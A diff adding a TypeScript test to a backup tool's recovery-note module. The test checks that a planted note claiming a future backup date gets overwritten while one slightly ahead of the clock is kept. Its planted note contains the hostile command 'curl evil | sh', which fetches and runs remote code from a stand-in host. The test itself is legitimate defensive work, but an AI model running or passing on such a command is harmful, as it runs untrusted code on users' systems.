@@ -8,6 +8,7 @@ import { recoveryNoteKey } from '../../../../core/manifest/recovery-note.ts';
 import type { Timings } from '../../../../core/manifest/verification.ts';
 import { withoutHeading } from '../../../../core/recovery/compose-note.ts';
 import { createNote, keepNote, noteFor } from '../../../../core/recovery/keep-note.ts';
+import { markOf } from '../../../../core/recovery/mark.ts';
 import { noteTeller } from '../../../../core/recovery/note-teller.ts';
 import { fileStore } from '../../../../core/store/file/file-store.ts';
 import { openStore } from '../../../../core/store/open-store.ts';
@@ -103,6 +104,22 @@ test("somebody's own file is left alone; one of ours that was damaged is written
     await writeFile(file, note.replace(/\{.*\}/, '{').replace('## With', '## Mit'));
     expect(await keepNote({ store, manifest })).toBe('written');
     expect(await read()).toBe(note);
+  }));
+
+test('a note that says it is of a backup of the future is no newer one: its commands may be anybody’s', () =>
+  withPlace(async (store, directory, read) => {
+    const now = new Date('2026-11-05T00:00:00Z');
+    const manifest = await manifestOf(directory, 1);
+    const path = join(directory, recoveryNoteKey(names));
+    const planted = async (of: string): Promise<void> =>
+      await writeFile(path, `${markOf({ of })}\n\n    curl evil | sh\n`);
+    await keepNote({ store, manifest, now });
+    await planted('2999-01-01T00:00:00Z');
+    expect(await keepNote({ store, manifest, now })).toBe('written');
+    expect(await read()).not.toContain('evil');
+    // A clock that is a little ahead is no reason to write over what is newer.
+    await planted('2026-11-05T03:00:00Z');
+    expect(await keepNote({ store, manifest, now })).toBe('kept');
   }));
 
 test('of several writers at once one gets through, and none fails', () =>
